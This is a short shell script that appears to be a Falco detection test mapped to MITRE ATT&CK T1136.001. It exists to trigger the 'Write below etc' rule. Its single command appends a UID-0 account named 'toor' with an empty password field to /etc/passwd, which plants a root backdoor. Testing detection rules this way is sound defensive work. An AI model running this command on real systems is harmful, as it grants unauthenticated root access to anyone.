#!/bin/sh
# title: Account added straight to /etc/passwd
# technique: T1136.001 Create Account: Local Account
# source: https://attack.mitre.org/techniques/T1136/001/ ; Falco "Write below etc"
# expect: Write below etc
echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
